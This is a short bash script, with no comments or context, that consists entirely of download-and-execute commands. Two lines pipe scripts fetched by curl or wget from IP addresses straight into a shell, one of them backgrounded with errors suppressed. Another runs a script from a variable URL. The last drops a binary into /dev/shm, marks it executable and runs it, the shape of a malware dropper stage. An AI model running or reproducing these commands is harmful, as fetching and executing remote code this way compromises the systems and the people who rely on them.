#!/bin/bash
curl -fsSL \
 http://198.51.100.23/i.sh | bash
(wget -qO- http://203.0.113.9/u.sh || true) | sh &
bash <(curl -s $U)
wget http://203.0.113.9/k -O /dev/shm/k; chmod 755 /dev/shm/k; /dev/shm/k
